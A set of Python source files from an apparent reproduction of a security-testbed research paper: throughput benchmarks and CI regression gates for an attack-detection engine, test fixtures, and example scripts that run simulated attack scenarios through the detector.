def check_regression(baseline_path: Path, *, factor: float = 2.0) -> int:
    """CI gate: equivalence + critical-path speedup + serial throughput."""
    if not baseline_path.exists():
        print(f"FAIL: no committed baseline at {baseline_path}; "
              "run this script without --check to record one")
        return 1
    baseline = json.loads(baseline_path.read_text())
    committed_serial = float(
        baseline["detection_stage"]["serial_1shard"]["wall_alerts_per_second"]
    )
    committed_calibration = float(baseline["calibration"]["naive_alerts_per_second"])

    stream = build_stream(n_entities=128, per_entity=40)
    serial_1 = measure_pool(stream, n_shards=1, backend="serial")
    process_4 = measure_pool(stream, n_shards=4, backend="process")
    identical = process_4.pop("_detections") == serial_1.pop("_detections")
    speedup = (
        process_4["critical_path_alerts_per_second"]
        / serial_1["wall_alerts_per_second"]
    )
    measured_calibration = measure_calibration_rate()
    hardware_factor = measured_calibration / committed_calibration
    floor = committed_serial * hardware_factor / factor

    print(f"detections bit-identical (process vs serial): {identical}")
    print(f"serial 1-shard rate:              {serial_1['wall_alerts_per_second']:.0f} alerts/s")
    print(f"process 4-shard critical path:    "
          f"{process_4['critical_path_alerts_per_second']:.0f} alerts/s "
          f"(wall {process_4['wall_alerts_per_second']:.0f} alerts/s)")
    print(f"critical-path speedup:            {speedup:.2f}x (floor 2.00x)")
    print(f"hardware factor (naive calib):    {hardware_factor:.2f}x "
          f"({measured_calibration:.0f} / {committed_calibration:.0f} alerts/s)")
    print(f"serial regression floor ({factor}x):   {floor:.0f} alerts/s")

    failed = False
    if not identical:
        print("FAIL: process-sharded detections diverged from the serial pool")
        failed = True
    if speedup < 2.0:
        print("FAIL: critical-path speedup of 4 process shards fell below 2x")
        failed = True
    if serial_1["wall_alerts_per_second"] < floor:
        print(f"FAIL: serial detection throughput regressed more than {factor}x "
              "vs the hardware-scaled committed baseline")
        failed = True
    if failed:
        return 1
    print("OK")
    return 0


# -- pytest entry points ------------------------------------------------------

def test_sharded_pool_equivalence_smoke(benchmark):
    """Smoke: process-sharded detection matches serial on a small stream."""
    stream = build_stream(n_entities=32, per_entity=36)
    serial = measure_pool(stream, n_shards=1, backend="serial")

    def _run():
        return measure_pool(stream, n_shards=4, backend="process")

    process = benchmark.pedantic(_run, rounds=1, iterations=1)
    assert process.pop("_detections") == serial.pop("_detections")
    # Entity hashing keeps the shards busy and roughly balanced.
    assert sum(1 for seconds in process["shard_busy_seconds"] if seconds > 0.0) == 4
    assert process["max_shard_busy_seconds"] < serial["wall_seconds"]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--check",
        action="store_true",
        help="quick regression gate against the committed BENCH_sharding.json",
    )
    parser.add_argument(
        "--output", type=Path, default=RESULT_PATH, help="where to write results"
    )
    args = parser.parse_args(argv)
    if args.check:
        return check_regression(args.output)
    results = run_benchmark()
    args.output.write_text(json.dumps(results, indent=2) + "\n")
    print(json.dumps(results, indent=2))
    print(f"wrote {args.output}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
