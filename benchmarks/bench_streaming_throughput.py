"""Streaming-engine throughput: alerts/sec, incremental vs seed re-decode.

The tentpole claim of the incremental inference engine is that one new
alert costs O(K^2 + pattern advances) instead of a full O(T * K^2)
chain re-decode plus O(P * T * L) pattern rescans.  This benchmark
measures it directly: a single-entity alert stream is pushed through
``AttackTagger.observe`` with the streaming engine at 1k/10k/100k
alerts, and through the seed path (``engine="naive"``) on a bounded
prefix (the seed path is quadratic in stream length -- running it on
the full 10k stream would take tens of minutes, which is precisely the
point).  Because the seed engine's alerts/sec only *drops* as the
stream grows, comparing the streaming rate at 10k alerts against the
seed rate on a shorter prefix understates the true speedup.

Run as a script to (re)record ``BENCH_streaming.json`` at the repo
root::

    PYTHONPATH=src python benchmarks/bench_streaming_throughput.py

CI runs the quick regression gate, which re-measures the streaming
rate on a short stream and fails if it regressed more than 2x against
the committed baseline::

    PYTHONPATH=src python benchmarks/bench_streaming_throughput.py --check

The pytest entry point keeps a fast smoke version of the same
comparison inside the tier-1 suite.
"""

from __future__ import annotations

import argparse
import json
import sys
import time
from pathlib import Path

import numpy as np

REPO_ROOT = Path(__file__).resolve().parent.parent
RESULT_PATH = REPO_ROOT / "BENCH_streaming.json"

if __name__ == "__main__":  # pragma: no cover - script mode import path
    sys.path.insert(0, str(REPO_ROOT / "src"))

from repro.core import AttackTagger
from repro.core.alerts import Alert, DEFAULT_VOCABULARY
from repro.core.states import AttackStage
from repro.incidents import DEFAULT_CATALOGUE

#: Alert names that keep the entity undetected, so `observe` never
#: short-circuits on `track.detected` and every alert pays full
#: inference cost (the worst case the engine must sustain).
BENIGN_NAMES = [
    spec.name
    for spec in DEFAULT_VOCABULARY
    if spec.stage in (AttackStage.BACKGROUND, AttackStage.RECONNAISSANCE)
]


def build_stream(length: int, *, seed: int = 7, entity: str = "host:bench") -> list[Alert]:
    """Single-entity benign-heavy stream (pattern cursors still advance)."""
    rng = np.random.default_rng(seed)
    names = [BENIGN_NAMES[i] for i in rng.integers(0, len(BENIGN_NAMES), size=length)]
    return [Alert(float(i), name, entity) for i, name in enumerate(names)]


def measure_alerts_per_second(
    stream: list[Alert], *, engine: str, max_window: int
) -> tuple[float, int]:
    """Feed a stream through a fresh tagger; return (alerts/sec, detections)."""
    tagger = AttackTagger(
        patterns=list(DEFAULT_CATALOGUE), max_window=max_window, engine=engine
    )
    started = time.perf_counter()
    for alert in stream:
        tagger.observe(alert)
    elapsed = time.perf_counter() - started
    return len(stream) / elapsed, len(tagger.detections)


def run_benchmark(
    *,
    streaming_sizes: tuple[int, ...] = (1_000, 10_000, 100_000),
    baseline_alerts: int = 600,
    windowed_alerts: int = 2_000,
) -> dict:
    """Full measurement set behind ``BENCH_streaming.json``."""
    results: dict = {
        "benchmark": "streaming_throughput",
        "units": "alerts_per_second",
        "notes": (
            "Unbounded-window runs measure the O(T^2)->O(T) scaling claim; "
            "the seed baseline is measured on a short prefix because its "
            "cost is quadratic (its rate at 10k alerts would be far lower, "
            "so the recorded speedup is an underestimate)."
        ),
        "streaming": {},
        "windowed": {},
    }
    for size in streaming_sizes:
        stream = build_stream(size)
        rate, detections = measure_alerts_per_second(
            stream, engine="streaming", max_window=size + 1
        )
        assert detections == 0, "benchmark stream must stay undetected"
        results["streaming"][str(size)] = round(rate, 1)
    baseline_stream = build_stream(baseline_alerts)
    naive_rate, _ = measure_alerts_per_second(
        baseline_stream, engine="naive", max_window=baseline_alerts + 1
    )
    results["naive_baseline"] = {
        "alerts": baseline_alerts,
        "alerts_per_second": round(naive_rate, 1),
    }
    results["speedup_10k_vs_naive"] = round(
        results["streaming"]["10000"] / naive_rate, 1
    )
    results["calibration"] = {
        "alerts": CALIBRATION_ALERTS,
        "naive_alerts_per_second": round(measure_calibration_rate(), 1),
    }
    # Steady-state with the production default window (64): the seed path
    # re-decodes the full window per alert, the streaming path only pays
    # the rebuild on eviction.
    windowed_stream = build_stream(windowed_alerts)
    for engine in ("streaming", "naive"):
        rate, _ = measure_alerts_per_second(windowed_stream, engine=engine, max_window=64)
        results["windowed"][engine] = round(rate, 1)
    results["windowed"]["alerts"] = windowed_alerts
    return results


#: Short naive-engine run used to calibrate how fast the current host is
#: relative to the machine that recorded the committed baseline.  The
#: naive path is pure seed code that this optimisation never touches, so
#: its rate moves with the hardware, not with the change under test.
CALIBRATION_ALERTS = 150


def measure_calibration_rate() -> float:
    """Naive-engine alerts/sec on the fixed calibration stream."""
    stream = build_stream(CALIBRATION_ALERTS)
    rate, _ = measure_alerts_per_second(
        stream, engine="naive", max_window=CALIBRATION_ALERTS + 1
    )
    return rate


def quick_streaming_rate(size: int = 2_000) -> float:
    """Cheap streaming-only measurement used by the CI regression gate."""
    stream = build_stream(size)
    # Warm-up pass absorbs import/JIT-ish first-touch costs.
    measure_alerts_per_second(stream[:200], engine="streaming", max_window=size + 1)
    rate, _ = measure_alerts_per_second(stream, engine="streaming", max_window=size + 1)
    return rate


def check_regression(baseline_path: Path, *, factor: float = 2.0) -> int:
    """Fail (non-zero) if streaming throughput regressed more than ``factor``x.

    The committed baseline was recorded on a different machine, so the
    absolute committed rate is first rescaled by a hardware factor: the
    ratio of the current host's naive-engine calibration rate to the
    committed one.  The gate then compares the measured streaming rate
    against ``scaled_baseline / factor`` -- CI runners that are simply
    slower across the board do not trip it, while a genuine slowdown of
    the streaming engine (which leaves the naive path untouched) does.
    """
    if not baseline_path.exists():
        print(f"FAIL: no committed baseline at {baseline_path}; "
              "run this script without --check to record one")
        return 1
    baseline = json.loads(baseline_path.read_text())
    committed = float(baseline["streaming"]["10000"])
    committed_calibration = float(baseline["calibration"]["naive_alerts_per_second"])
    measured_calibration = measure_calibration_rate()
    hardware_factor = measured_calibration / committed_calibration
    measured = quick_streaming_rate()
    floor = committed * hardware_factor / factor
    print(f"committed streaming rate (10k):   {committed:.0f} alerts/s")
    print(f"hardware factor (naive calib):    {hardware_factor:.2f}x "
          f"({measured_calibration:.0f} / {committed_calibration:.0f} alerts/s)")
    print(f"measured quick rate (2k):         {measured:.0f} alerts/s")
    print(f"regression floor ({factor}x, scaled): {floor:.0f} alerts/s")
    if measured < floor:
        print("FAIL: streaming throughput regressed more than "
              f"{factor}x vs the hardware-scaled committed baseline")
        return 1
    print("OK")
    return 0


# -- pytest entry points ------------------------------------------------------

def test_streaming_beats_naive_throughput(benchmark):
    """Smoke version: streaming must beat the seed loop by >= 10x at 500 alerts."""
    stream = build_stream(500)

    def _run():
        rate, _ = measure_alerts_per_second(
            stream, engine="streaming", max_window=len(stream) + 1
        )
        return rate

    streaming_rate = benchmark.pedantic(_run, rounds=3, iterations=1)
    naive_rate, _ = measure_alerts_per_second(
        stream[:150], engine="naive", max_window=len(stream) + 1
    )
    assert streaming_rate >= 10.0 * naive_rate, (
        f"streaming {streaming_rate:.0f} alerts/s vs naive {naive_rate:.0f} alerts/s"
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--check",
        action="store_true",
        help="quick regression gate against the committed BENCH_streaming.json",
    )
    parser.add_argument(
        "--output", type=Path, default=RESULT_PATH, help="where to write results"
    )
    args = parser.parse_args(argv)
    if args.check:
        return check_regression(args.output)
    results = run_benchmark()
    args.output.write_text(json.dumps(results, indent=2) + "\n")
    print(json.dumps(results, indent=2))
    print(f"wrote {args.output}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
