"""T1 -- Table I: overview of the security-incident dataset.

Regenerates the corpus-level bookkeeping of Table I (total raw alerts,
filtered alerts, number of incidents, archive size, study period) from
the synthetic corpus and checks each row against the published value.
"""

from __future__ import annotations

from repro.analysis import run_longitudinal_study


def test_table1_dataset_overview(benchmark, corpus, generator):
    report = benchmark(lambda: run_longitudinal_study(corpus, generator=generator))
    stats = report.corpus_stats

    print("\nTable I: Overview of the security incidents dataset")
    for label, value in stats.as_table():
        print(f"  {label:<45} {value}")

    # Paper: 25 M raw alerts, 191 K filtered, >200 incidents, 30 TB, 2000-2024.
    assert 20e6 <= stats.total_raw_alerts <= 30e6
    assert 150e3 <= stats.filtered_alerts <= 230e3
    assert stats.num_incidents > 200
    assert 25 <= stats.data_size_terabytes <= 35
    assert (stats.start_year, stats.end_year) == (2000, 2024)
    # The scan filter is what produces the reduction (factor >> 10).
    assert stats.reduction_factor > 50
