"""Saturated-window throughput: amortised eviction vs full rebuild.

Once a long-lived entity fills its ``max_window``, *every* further alert
slides the window.  The rebuild path (``engine="rebuild"``, the
previous behaviour) re-anchors the decoder with a full O(W * K^2)
sequential re-decode per alert -- the seed constant all over again,
precisely in the production steady state.  The amortised path
(``engine="streaming"``) evicts the front of a two-stack sliding
product (:mod:`repro.core.sliding_window`) in O(K^3) amortised and
decides "cannot fire" from the window aggregates in O(K^2), so the
steady-state cost per alert no longer depends on the window size.

This benchmark feeds a single-entity benign-heavy stream until the
window saturates (untimed), then measures alerts/sec over a long
saturated tail for ``max_window`` in {16, 64, 256} under both engines.

Run as a script to (re)record ``BENCH_window.json`` at the repo root::

    PYTHONPATH=src python benchmarks/bench_window_slide.py

CI runs the quick regression gate, which re-measures the streaming vs
rebuild *ratio* at ``max_window=64`` (a same-host ratio needs no
hardware calibration) plus a streaming-vs-naive equivalence smoke, and
fails if the speedup drops below the floor::

    PYTHONPATH=src python benchmarks/bench_window_slide.py --check

The pytest entry point keeps a fast smoke version of the same
comparison inside the tier-1 suite.
"""

from __future__ import annotations

import argparse
import json
import sys
import time
from pathlib import Path

import numpy as np

REPO_ROOT = Path(__file__).resolve().parent.parent
RESULT_PATH = REPO_ROOT / "BENCH_window.json"

if __name__ == "__main__":  # pragma: no cover - script mode import path
    sys.path.insert(0, str(REPO_ROOT / "src"))

from repro.core import AttackTagger
from repro.core.alerts import Alert, DEFAULT_VOCABULARY
from repro.core.states import AttackStage
from repro.incidents import DEFAULT_CATALOGUE

#: Alert names that keep the entity undetected, so `observe` never
#: short-circuits on `track.detected` and every alert pays the full
#: saturated-window slide (the steady state the fix targets).  Pattern
#: cursors still advance/evict on the reconnaissance names.
BENIGN_NAMES = [
    spec.name
    for spec in DEFAULT_VOCABULARY
    if spec.stage in (AttackStage.BACKGROUND, AttackStage.RECONNAISSANCE)
]


def build_stream(length: int, *, seed: int = 7, entity: str = "host:bench") -> list[Alert]:
    """Single-entity benign-heavy stream (pattern cursors still churn)."""
    rng = np.random.default_rng(seed)
    names = [BENIGN_NAMES[i] for i in rng.integers(0, len(BENIGN_NAMES), size=length)]
    return [Alert(float(i), name, entity) for i, name in enumerate(names)]


def measure_saturated_rate(
    *, engine: str, max_window: int, tail_alerts: int, seed: int = 7
) -> float:
    """Alerts/sec over the saturated steady state (warm-up untimed)."""
    stream = build_stream(max_window + tail_alerts, seed=seed)
    tagger = AttackTagger(
        patterns=list(DEFAULT_CATALOGUE), max_window=max_window, engine=engine
    )
    for alert in stream[:max_window]:
        tagger.observe(alert)
    started = time.perf_counter()
    for alert in stream[max_window:]:
        tagger.observe(alert)
    elapsed = time.perf_counter() - started
    assert not tagger.detections, "benchmark stream must stay undetected"
    return tail_alerts / elapsed


def check_equivalence(*, max_window: int = 5, alerts: int = 400) -> None:
    """Assert streaming == naive detections on an eviction-heavy stream."""
    from repro.core.sequences import AlertSequence

    rng = np.random.default_rng(13)
    all_names = [spec.name for spec in DEFAULT_VOCABULARY]
    names = [all_names[i] for i in rng.integers(0, len(all_names), size=alerts)]
    sequence = AlertSequence.from_names(names, entity="host:check")
    streaming = AttackTagger(
        patterns=list(DEFAULT_CATALOGUE), max_window=max_window, engine="streaming"
    )
    naive = AttackTagger(
        patterns=list(DEFAULT_CATALOGUE), max_window=max_window, engine="naive"
    )
    for alert in sequence:
        ds, dn = streaming.observe(alert), naive.observe(alert)
        assert (ds is None) == (dn is None), "firing mismatch"
        if ds is not None:
            assert ds.confidence == dn.confidence, "confidence not bit-identical"
            assert ds.state_trajectory == dn.state_trajectory, "trajectory mismatch"


def run_benchmark(
    *,
    windows: tuple[int, ...] = (16, 64, 256),
    tail_alerts: int = 20_000,
) -> dict:
    """Full measurement set behind ``BENCH_window.json``."""
    results: dict = {
        "benchmark": "window_slide",
        "units": "alerts_per_second",
        "notes": (
            "Saturated steady state of a single long-lived entity: every "
            "alert slides the max_window.  'rebuild' is the previous "
            "O(W * K^2)-per-alert slide path, 'streaming' the amortised "
            "O(K^3) two-stack eviction; both emit bit-identical "
            "detections (equivalence suite: tests/test_sliding_window.py)."
        ),
        "tail_alerts": tail_alerts,
        "windows": {},
    }
    for window in windows:
        streaming = measure_saturated_rate(
            engine="streaming", max_window=window, tail_alerts=tail_alerts
        )
        # The rebuild path is ~W times slower; cap its tail so the
        # recording pass stays quick.  Rates are steady-state, so the
        # shorter tail does not bias them.
        rebuild_tail = min(tail_alerts, max(1_000, 64_000 // window))
        rebuild = measure_saturated_rate(
            engine="rebuild", max_window=window, tail_alerts=rebuild_tail
        )
        results["windows"][str(window)] = {
            "streaming": round(streaming, 1),
            "rebuild": round(rebuild, 1),
            "speedup": round(streaming / rebuild, 1),
        }
    results["speedup_64"] = results["windows"]["64"]["speedup"]
    return results


def check_regression(baseline_path: Path, *, floor: float = 3.0) -> int:
    """Fail (non-zero) if the amortised path loses its saturated edge.

    The gate re-measures the streaming/rebuild throughput *ratio* at
    ``max_window=64`` on this host -- both engines run the same stream
    on the same machine, so the ratio needs no hardware calibration --
    and also re-asserts streaming-vs-naive equivalence on an
    eviction-heavy stream.  ``floor`` sits below the recorded speedup to
    absorb CI noise while still catching any regression that collapses
    the amortisation.
    """
    check_equivalence()
    print("equivalence: streaming == naive on eviction-heavy stream: OK")
    streaming = measure_saturated_rate(engine="streaming", max_window=64, tail_alerts=4_000)
    rebuild = measure_saturated_rate(engine="rebuild", max_window=64, tail_alerts=1_000)
    speedup = streaming / rebuild
    print(f"streaming (saturated, W=64):  {streaming:.0f} alerts/s")
    print(f"rebuild   (saturated, W=64):  {rebuild:.0f} alerts/s")
    print(f"measured speedup:             {speedup:.1f}x (floor {floor}x)")
    if baseline_path.exists():
        committed = json.loads(baseline_path.read_text()).get("speedup_64")
        print(f"committed speedup_64:         {committed}x")
    if speedup < floor:
        print(f"FAIL: saturated-window speedup below {floor}x")
        return 1
    print("OK")
    return 0


# -- pytest entry points ------------------------------------------------------

def test_amortised_eviction_beats_rebuild(benchmark):
    """Smoke version: >= 2x over the rebuild path at max_window=64."""

    def _run():
        return measure_saturated_rate(engine="streaming", max_window=64, tail_alerts=800)

    streaming_rate = benchmark.pedantic(_run, rounds=3, iterations=1)
    rebuild_rate = measure_saturated_rate(engine="rebuild", max_window=64, tail_alerts=400)
    assert streaming_rate >= 2.0 * rebuild_rate, (
        f"streaming {streaming_rate:.0f} alerts/s vs rebuild {rebuild_rate:.0f} alerts/s"
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--check",
        action="store_true",
        help="quick regression gate (equivalence + streaming/rebuild ratio)",
    )
    parser.add_argument(
        "--output", type=Path, default=RESULT_PATH, help="where to write results"
    )
    args = parser.parse_args(argv)
    if args.check:
        return check_regression(args.output)
    results = run_benchmark()
    args.output.write_text(json.dumps(results, indent=2) + "\n")
    print(json.dumps(results, indent=2))
    print(f"wrote {args.output}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
