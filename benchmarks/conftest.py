"""Shared fixtures for the benchmark harness.

Every benchmark regenerates one table or figure of the paper.  The
synthetic corpus, trained model parameters, and the evaluation example
sets are built once per session; the benchmarked callables then measure
the cost of the analysis / detection step itself and the test body
checks that the regenerated numbers have the paper's shape.
"""

from __future__ import annotations

import pytest

from repro.core import DEFAULT_VOCABULARY, EvaluationExample, train_from_incidents
from repro.incidents import DEFAULT_CATALOGUE, IncidentGenerator
from repro.testbed import Honeypot, build_default_topology


@pytest.fixture(scope="session")
def generator():
    """Seeded corpus generator (seed 7 is the release seed)."""
    return IncidentGenerator(seed=7)


@pytest.fixture(scope="session")
def corpus(generator):
    """The default 228-incident corpus used by every analysis benchmark."""
    return generator.generate_corpus()


@pytest.fixture(scope="session")
def benign_sequences():
    """Benign per-entity sequences (evaluation negatives)."""
    return IncidentGenerator(seed=99).generate_benign_sequences(200)


@pytest.fixture(scope="session")
def trained_parameters(corpus, benign_sequences):
    """Factor-graph parameters trained on the full corpus."""
    return train_from_incidents(
        corpus.attack_sequences(),
        benign_sequences,
        vocabulary=DEFAULT_VOCABULARY,
        patterns=list(DEFAULT_CATALOGUE),
    )


@pytest.fixture(scope="session")
def evaluation_examples(corpus, benign_sequences):
    """Sequence-level evaluation set: every incident plus benign traffic."""
    examples = [
        EvaluationExample(incident.sequence, True, incident.incident_id)
        for incident in corpus
    ]
    examples.extend(
        EvaluationExample(sequence, False, f"benign-{index}")
        for index, sequence in enumerate(benign_sequences)
    )
    return examples


@pytest.fixture(scope="session")
def topology():
    """Simulated cluster topology for the ransomware case study."""
    return build_default_topology()


@pytest.fixture()
def honeypot():
    """Fresh honeypot per benchmark (scenarios compromise it)."""
    return Honeypot()
