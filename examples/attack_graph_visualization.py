#!/usr/bin/env python3
"""Rebuild the Fig. 1 attack graph: scanners, attackers, legitimate traffic.

Generates one hour of border traffic (a dominant mass scanner sweeping
the /16, a tail of smaller scanners, legitimate Zeek connections, and
one real two-connection attack), builds the connection graph, lays it
out with the force-directed algorithm, annotates the attacker and
scanner nodes by cross-examining the black-hole router and the
detector's ground truth, and exports DOT / GEXF / JSON artefacts next
to this script.

Run with:  python examples/attack_graph_visualization.py
"""

from __future__ import annotations

from pathlib import Path

import numpy as np

from repro.attacks import MassScanEmulator
from repro.telemetry.zeek import ZeekMonitor
from repro.testbed import BlackHoleRouter
from repro.viz import (
    ConnectionGraphBuilder,
    GraphAnnotator,
    export_dot,
    export_gexf,
    export_json,
    hub_centrality_check,
    multilevel_layout,
    render_ascii_summary,
)

DOMINANT_SCANNER = "103.102.166.28"
ATTACKER = "132.17.9.3"
TARGETS = ["141.142.10.20", "141.142.10.21"]
OUTPUT_DIR = Path(__file__).resolve().parent


def main() -> None:
    emulator = MassScanEmulator(seed=42)
    profiles = emulator.default_profiles(total_scans=6_000, dominant_ip=DOMINANT_SCANNER)
    records = emulator.generate_scan_records(profiles, duration_seconds=3_600.0)
    sample = emulator.sample_most_frequent(records, sample_size=3_000)

    router = BlackHoleRouter()
    router.record_scans(records)

    zeek = ZeekMonitor()
    rng = np.random.default_rng(9)
    for i in range(800):
        zeek.record_connection(
            float(i), f"{rng.integers(50, 200)}.{rng.integers(1, 250)}."
                      f"{rng.integers(1, 250)}.{rng.integers(1, 250)}",
            int(rng.integers(1024, 65000)),
            f"141.142.{rng.integers(1, 250)}.{rng.integers(1, 250)}", 443,
            conn_state="SF", service="https",
        )

    builder = ConnectionGraphBuilder()
    builder.add_scan_records(sample + [r for r in records if r.source_ip != DOMINANT_SCANNER],
                             dominant_scanner=DOMINANT_SCANNER)
    builder.add_connections(zeek.conn_records())
    builder.add_attack(ATTACKER, TARGETS)

    stats = builder.stats()
    print(f"Graph: {stats.nodes:,} nodes, {stats.edges:,} edges "
          f"({stats.scanner_edges:,} scan edges, {stats.legitimate_edges:,} legitimate, "
          f"{stats.attack_edges} attack edges)")

    summary = GraphAnnotator(builder, mass_scanner_threshold=3_000).annotate(
        router=router, known_attacker_ips=[ATTACKER]
    )
    print(f"Annotated roles: {summary}")

    layout = multilevel_layout(builder.graph, iterations=20, refine_iterations=6, seed=3)
    ratio = hub_centrality_check(layout, builder.graph, DOMINANT_SCANNER)
    print(f"Mass scanner centrality ratio: {ratio:.3f} "
          "(values near 0 mean it sits at the centre of its scan disc, as in Fig. 1A)")

    print()
    print("Density rendering of the laid-out graph (the dense blob is the scanner disc):")
    print(render_ascii_summary(builder, layout, width=64, height=20))

    dot_path = OUTPUT_DIR / "fig1_graph.dot"
    dot_path.write_text(export_dot(builder, max_edges=200) + "\n", encoding="utf-8")
    gexf_path = export_gexf(builder, OUTPUT_DIR / "fig1_graph.gexf", layout)
    json_path = OUTPUT_DIR / "fig1_graph.json"
    json_path.write_text(export_json(builder, layout), encoding="utf-8")
    print()
    print(f"Wrote {dot_path.name}, {gexf_path.name}, {json_path.name} to {OUTPUT_DIR}")


if __name__ == "__main__":
    main()
