#!/usr/bin/env python3
"""Quickstart: generate the corpus, train the preemption model, catch an attack.

This walks the three things a new user of the library does first:

1. generate the synthetic longitudinal incident corpus and look at the
   Table-I-style statistics,
2. train the factor-graph preemption model (ATTACKTAGGER) on past
   incidents plus benign traffic,
3. stream a fresh multi-stage attack through the detector and see it
   tagged malicious *before* the damage-stage alerts.

Run with:  python examples/quickstart.py
"""

from __future__ import annotations

from repro.analysis import run_longitudinal_study
from repro.attacks import StolenCredentialScenario, ReplayEngine
from repro.core import AttackTagger, DEFAULT_VOCABULARY, evaluate_preemption, train_from_incidents
from repro.core.sequences import AlertSequence
from repro.incidents import DEFAULT_CATALOGUE, IncidentGenerator


def main() -> None:
    # ------------------------------------------------------------------
    # 1. The longitudinal dataset (synthetic stand-in for NCSA's archive).
    # ------------------------------------------------------------------
    generator = IncidentGenerator(seed=7)
    corpus = generator.generate_corpus()
    report = run_longitudinal_study(corpus, generator=generator)
    print("=== Longitudinal measurement study (paper vs. this run) ===")
    print(report.render_text())
    print()

    # ------------------------------------------------------------------
    # 2. Train the factor-graph preemption model on the past incidents.
    # ------------------------------------------------------------------
    benign = generator.generate_benign_sequences(150)
    parameters = train_from_incidents(
        corpus.attack_sequences(),
        benign,
        vocabulary=DEFAULT_VOCABULARY,
        patterns=list(DEFAULT_CATALOGUE),
    )
    tagger = AttackTagger(parameters, patterns=list(DEFAULT_CATALOGUE))
    print(f"Trained on {len(corpus)} incidents and {len(benign)} benign sequences; "
          f"{len(parameters.pattern_weights)} catalogue patterns carry positive weight.")
    print()

    # ------------------------------------------------------------------
    # 3. Stream a fresh attack (the 2002-era rootkit chain) through it.
    # ------------------------------------------------------------------
    scenario = StolenCredentialScenario(victim_user="alice")
    attack = scenario.run(start_time=0.0)
    replay = ReplayEngine().replay_into_detector(attack.alerts, tagger)
    detection = replay.detections[0]
    sequence = AlertSequence.from_alerts(attack.alerts)
    outcome = evaluate_preemption(sequence, detection)

    print("=== Streaming detection of a stolen-credential rootkit chain ===")
    for line in attack.context.notes:
        print(f"  attacker: {line}")
    print()
    print(f"  detection trigger : {detection.trigger.name} (alert #{detection.alert_index + 1} "
          f"of {len(sequence)})")
    print(f"  confidence        : {detection.confidence:.2f}")
    print(f"  matched patterns  : {', '.join(detection.matched_patterns) or '(partial matches only)'}")
    print(f"  preempted?        : {outcome.preempted} "
          f"(lead time {outcome.lead_time_seconds / 60:.1f} minutes before damage)")


if __name__ == "__main__":
    main()
