#!/usr/bin/env python3
"""The §V case study: a ransomware family is captured and preempted.

Reproduces the paper's headline result end to end:

* the honeypot (16 entry points on the testbed /24 with advertised
  PostgreSQL credentials) attracts the ransomware,
* the full kill chain runs inside the isolated container -- port
  probing, default-credential entry, ``SHOW server_version_num``, ELF
  staging in a ``largeobject``, ``/tmp/kp`` drop, second-stage
  download, C2 beacon (dropped by the egress sandbox), SSH-key lateral
  movement, ransom note and log wiping,
* the factor-graph model detects the entity during staging/C2 and the
  response path notifies operators and null-routes the attacker,
* twelve days later the equivalent production incident is replayed,
  demonstrating the 12-day early warning.

Run with:  python examples/ransomware_case_study.py
"""

from __future__ import annotations

import datetime as dt

from repro.attacks import RansomwareScenario, ReplayEngine, TWELVE_DAYS_SECONDS, alerts_to_names
from repro.core import AttackTagger, evaluate_preemption, train_from_incidents
from repro.core.sequences import AlertSequence
from repro.incidents import DEFAULT_CATALOGUE, IncidentGenerator
from repro.testbed import Honeypot, TestbedPipeline, build_default_topology


def main() -> None:
    # Train the deployed model on the historical corpus.
    generator = IncidentGenerator(seed=7)
    corpus = generator.generate_corpus()
    parameters = train_from_incidents(
        corpus.attack_sequences(),
        generator.generate_benign_sequences(150),
        patterns=list(DEFAULT_CATALOGUE),
    )

    # Deploy the testbed: honeypot + pipeline + trained detector.
    honeypot = Honeypot()
    topology = build_default_topology()
    pipeline = TestbedPipeline(
        detectors={"factor_graph": AttackTagger(parameters, patterns=list(DEFAULT_CATALOGUE))},
        honeypot=honeypot,
    )

    # October 30: the ransomware enters the honeypot.
    october_30 = dt.datetime(2023, 10, 30, 3, 44, tzinfo=dt.timezone.utc).timestamp()
    scenario = RansomwareScenario(honeypot, topology=topology)
    capture = scenario.run_honeypot_capture(start_time=october_30 - 3 * 86_400)

    print("=== Attack script observed in the honeypot ===")
    for note in capture.context.notes:
        print(f"  {note}")
    print()

    detections = pipeline.ingest_alerts(capture.alerts)
    detection = detections[0]
    sequence = AlertSequence.from_alerts(capture.alerts)
    outcome = evaluate_preemption(sequence, detection)

    print("=== Detection and response ===")
    print(f"  entity tagged malicious : {detection.entity}")
    print(f"  triggering alert        : {detection.trigger.name} "
          f"(confidence {detection.confidence:.2f})")
    print(f"  preempted before damage : {outcome.preempted}")
    for timestamp, summary in pipeline.responder.notification_timeline():
        stamp = dt.datetime.fromtimestamp(timestamp, tz=dt.timezone.utc)
        print(f"  operator notification   : {stamp:%Y-%m-%d %H:%M} UTC -- {summary}")
    blocked = [b.source_ip for b in pipeline.router.history]
    print(f"  null-routed addresses   : {', '.join(sorted(set(blocked)))}")
    print(f"  C2 egress contained     : "
          f"{len(honeypot.egress.dropped_attempts())} outbound attempt(s) dropped")
    print()

    # November 10 (+12 days): the same family hits a production database.
    production = scenario.run_production_incident(
        start_time=capture.alerts[0].timestamp + TWELVE_DAYS_SECONDS
    )
    damage = [a for a in production.alerts if a.name == "alert_ransom_note_created"][0]
    lead_days = (damage.timestamp - detection.timestamp) / 86_400
    print("=== The production incident, twelve days later ===")
    print(f"  production damage at    : "
          f"{dt.datetime.fromtimestamp(damage.timestamp, tz=dt.timezone.utc):%Y-%m-%d %H:%M} UTC")
    print(f"  early-warning lead      : {lead_days:.1f} days (paper: 12 days)")
    print()
    print("Alert sequence of the captured attack:")
    print("  " + " -> ".join(alerts_to_names(capture.alerts)[:12]) + " -> ...")


if __name__ == "__main__":
    main()
