"""Legacy setup shim.

The environment's setuptools predates PEP-660 editable installs (no
``wheel`` package is available offline), so ``pip install -e .`` falls
back to ``setup.py develop`` via ``--no-use-pep517``.  All project
metadata lives in ``pyproject.toml``.
"""

from setuptools import setup

setup()
