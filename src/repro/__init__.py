"""repro -- reproduction of the SC'24 security-testbed paper.

The package reproduces, as a laptop-scale simulation, the system
described in "Security Testbed for Preempting Attacks against
Supercomputing Infrastructure" (Cao, Kalbarczyk, Iyer; NCSA/UIUC):

* :mod:`repro.core` -- the factor-graph preemption model
  (ATTACKTAGGER), baselines, and evaluation machinery.
